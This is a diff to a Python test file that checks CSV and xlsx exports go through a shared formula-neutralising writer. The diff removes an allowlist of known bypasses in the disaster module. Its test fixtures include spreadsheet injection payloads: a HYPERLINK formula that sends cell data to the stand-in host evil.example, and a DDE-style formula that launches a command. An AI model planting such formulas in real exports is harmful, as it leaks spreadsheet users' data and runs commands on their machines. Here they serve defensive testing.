@@ -15,7 +15,6 @@ from datetime import date, timedelta
 from pathlib import Path
 
 import openpyxl
-import pytest
 
 from kiban.kit.export import attachment, csv_bytes, neutralise, workbook, xlsx_bytes
 from kiban.modules.catalog.models import CatalogService
@@ -24,13 +23,6 @@ from tests.factories import AICHI, ICHINOMIYA
 SRC = Path(__file__).resolve().parents[2] / "src" / "kiban"
 SHARED_WRITER = SRC / "kit" / "export.py"
 BYPASS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|\bxlsxwriter\b")
-
-# Exports in files other engineers own right now; each still writes its own CSV/xlsx and must
-# move onto kiban.kit.export (csv_bytes / workbook + xlsx_bytes / attachment).
-KNOWN_BYPASSES = {
-    "modules/disaster/web.py": "dashboard.csv builds its rows with csv.writer: a shelter named 「=…」 is a formula",
-    "modules/disaster/roster.py": "template_xlsx makes its own Workbook() (it neutralises cell by cell today)",
-}
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
             "\t=1+1", "\r=1+1"]
@@ -48,18 +40,12 @@ def _bypasses() -> dict[str, list[str]]:
 
 
 def test_no_export_writes_csv_or_xlsx_around_the_shared_writer() -> None:
-    offenders = {path: lines for path, lines in _bypasses().items() if path not in KNOWN_BYPASSES}
+    offenders = _bypasses()
     assert offenders == {}, ("write CSV with kiban.kit.export.csv_bytes and .xlsx with workbook()/xlsx_bytes(); "
                              f"found: {offenders}")
 
 
-@pytest.mark.xfail(reason="owned by the disaster module's engineers this wave: " + "; ".join(KNOWN_BYPASSES.values()),
-                   strict=False)
-def test_the_disaster_exports_use_the_shared_writer_too() -> None:
-    assert not set(_bypasses()) & set(KNOWN_BYPASSES)
-
-
-def test_the_walk_would_see_a_new_bypass(tmp_path) -> None:
+def test_the_walk_would_see_a_new_bypass() -> None:
     assert BYPASS.search("    writer = csv.writer(buffer)")
     assert BYPASS.search("book = Workbook()")
     assert not BYPASS.search("openpyxl.load_workbook(io.BytesIO(data))")  # reading is fine
